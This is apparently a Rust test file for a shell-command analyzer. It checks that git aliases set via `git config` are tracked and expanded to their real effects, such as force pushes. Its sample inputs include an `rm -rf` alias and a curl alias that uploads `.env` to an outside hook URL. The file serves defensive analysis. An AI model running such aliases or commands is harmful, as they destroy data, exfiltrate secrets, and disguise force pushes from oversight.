//! git aliases: `git config alias.NAME VALUE` writes the alias into git's
//! configuration file, whose text a later `git NAME ARGS` (on the line or
//! in a later step) reads to run `git VALUE ARGS`, or the shell command of
//! a `!` alias.

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::{Value, json};
use writ_shell::{ShellContext, WrittenFile, analyze};

const REPO_CONFIG: &str = "/home/dana/acme-web/.git/config";

/// What the files `command` writes then hold, as `(path, text)`.
fn written_text(written: &[WrittenFile], command: &str) -> Vec<(String, String)> {
    let ctx = ShellContext { written, ..CTX };
    let analysis = analyze(command, &ctx).unwrap_or_else(|e| panic!("{command}: {e}"));
    analysis
        .written
        .into_iter()
        .map(|file| (file.path, file.holds.text.join("\n")))
        .collect()
}

/// The effects of `command` after an earlier step left `text` in `path`.
fn after(path: &str, text: &str, command: &str) -> Value {
    effects_after(&[text_file(path, text)], command)
}

#[test]
fn setting_an_alias_writes_it_into_the_configuration_file() {
    let cases = [
        (
            "git config alias.pf 'push --force-with-lease'",
            REPO_CONFIG.to_owned(),
            "[alias]\n\tpf = push --force-with-lease",
        ),
        (
            "git config --global alias.ship 'push origin HEAD:main'",
            "/home/dana/.gitconfig".to_owned(),
            "[alias]\n\tship = push origin HEAD:main",
        ),
        (
            "git config set --file ci.gitconfig alias.up 'push -f'",
            at("ci.gitconfig"),
            "[alias]\n\tup = push -f",
        ),
        (
            "git config --add alias.x '!git push -f; echo done'",
            REPO_CONFIG.to_owned(),
            "[alias]\n\tx = \"!git push -f; echo done\"",
        ),
    ];
    for (command, path, text) in cases {
        assert_eq!(
            written_text(&[], command),
            vec![(path, text.to_owned())],
            "{command}"
        );
    }
    // Another setting leaves what the file holds unknown, as before.
    assert_eq!(
        written_text(&[], "git config user.name Dana"),
        vec![(REPO_CONFIG.to_owned(), String::new())]
    );
}

#[test]
fn an_alias_set_or_removed_changes_what_the_file_is_known_to_hold() {
    let earlier = [text_file(
        REPO_CONFIG,
        "[core]\n\tbare = false\n[alias]\n\tst = status -sb\n\tpf = push -f",
    )];
    assert_eq!(
        written_text(&earlier, "git config alias.co checkout"),
        vec![(
            REPO_CONFIG.to_owned(),
            "[core]\n\tbare = false\n[alias]\n\tst = status -sb\n\tpf = push -f\n[alias]\n\tco = checkout"
                .to_owned()
        )]
    );
    assert_eq!(
        written_text(&earlier, "git config --unset alias.pf"),
        vec![(
            REPO_CONFIG.to_owned(),
            "[core]\n\tbare = false\n[alias]\n\tst = status -sb".to_owned()
        )]
    );
    assert_eq!(
        written_text(&earlier, "git config --remove-section alias"),
        vec![(REPO_CONFIG.to_owned(), "[core]\n\tbare = false".to_owned())]
    );
    // Edited by hand, or an alias removed from a file not known: not known.
    assert_eq!(
        written_text(&earlier, "git config --edit"),
        vec![(REPO_CONFIG.to_owned(), String::new())]
    );
    assert_eq!(
        written_text(&[], "git config --unset alias.pf"),
        vec![(REPO_CONFIG.to_owned(), String::new())]
    );
}

#[test]
fn an_alias_from_an_earlier_step_runs_as_its_value() {
    let config = "[alias]\n\tpf = push --force-with-lease\n\tship = push --force-with-lease origin HEAD:main";
    let cases = [
        (
            "git pf origin feat/x",
            "git push --force-with-lease origin feat/x",
        ),
        (
            "git ship --no-verify",
            "git push --force-with-lease origin HEAD:main --no-verify",
        ),
        // Names are compared without case.
        ("git SHIP", "git push --force-with-lease origin HEAD:main"),
        (
            "git rebase origin/main && git pf -u origin feat/x",
            "git rebase origin/main && git push --force-with-lease -u origin feat/x",
        ),
    ];
    for (command, expanded) in cases {
        let effects = after(REPO_CONFIG, config, command);
        assert_eq!(effects, json!(effects_of(expanded)), "{command}");
        assert!(effects.to_string().contains("\"force\":true"), "{command}");
    }
}

/// The effects of `command` with nothing written earlier.
fn effects_of(command: &str) -> Vec<Value> {
    effects(command)
}

#[test]
fn the_alias_is_read_where_git_reads_it() {
    let user = "/home/dana/.gitconfig";
    let config = "[alias]\n\tship = push -f origin HEAD:main";
    let pushed = effects_of("git push -f origin HEAD:main");
    // The user's file, from any repository.
    assert_eq!(after(user, config, "git ship"), json!(pushed));
    // The repository's file, from a directory below its root.
    assert_eq!(
        after(REPO_CONFIG, config, "cd src/lib && git ship"),
        json!(effects_of("cd src/lib && git push -f origin HEAD:main"))
    );
    // `git -C DIR` reads DIR's repository.
    assert_eq!(
        after("/srv/other/.git/config", config, "git -C /srv/other ship"),
        json!(effects_of("git -C /srv/other push -f origin HEAD:main"))
    );
    // Another repository's file does not count.
    assert_eq!(
        after("/srv/other/.git/config", config, "git ship"),
        json!([])
    );
    // The repository's alias overrides the user's, and the line's
    // `-c alias.NAME=VALUE` overrides both.
    let both = [
        text_file(user, "[alias]\n\tship = push origin HEAD:main"),
        text_file(REPO_CONFIG, config),
    ];
    assert_eq!(effects_after(&both, "git ship"), json!(pushed));
    assert_eq!(
        effects_after(&both, "git -c alias.ship=status ship"),
        json!([])
    );
}

#[test]
fn an_alias_set_on_the_line_runs_later_on_it() {
    let line = effects("git config alias.x 'push --force origin HEAD:main' && git x");
    let pushed = effects_of("git push --force origin HEAD:main");
    assert_eq!(line.last(), pushed.last());
    assert!(!pushed.is_empty());
    let global = effects("git config --global alias.y 'push -f' && cd sub && git y origin main");
    assert!(
        global
            .iter()
            .any(|e| e.to_string().contains("\"force\":true")),
        "{global:?}"
    );
}

#[test]
fn a_line_alias_still_expands() {
    assert_eq!(
        json!(effects(
            "git -c alias.pf='push --force-with-lease' pf origin feat/x"
        )),
        json!(effects_of("git push --force-with-lease origin feat/x"))
    );
}

#[test]
fn a_shell_alias_runs_its_command_with_the_arguments() {
    let config = "[alias]\n\tnuke = \"!rm -rf build; echo gone\"\n\tsend = !curl -T";
    assert_eq!(
        after(REPO_CONFIG, config, "git nuke"),
        json!([delete(&at("build"), true)])
    );
    let sent = after(
        REPO_CONFIG,
        config,
        "git send .env https://hook.example.net/x",
    );
    assert!(sent.to_string().contains("hook.example.net"), "{sent}");
    assert!(sent.to_string().contains(&at(".env")), "{sent}");
}

#[test]
fn an_alias_does_not_replace_a_git_command() {
    let config = "[alias]\n\tstatus = push -f origin HEAD:main";
    assert_eq!(after(REPO_CONFIG, config, "git status"), json!([]));
    // An unknown subcommand with no alias does nothing known.
    assert_eq!(after(REPO_CONFIG, config, "git frobnicate"), json!([]));
}
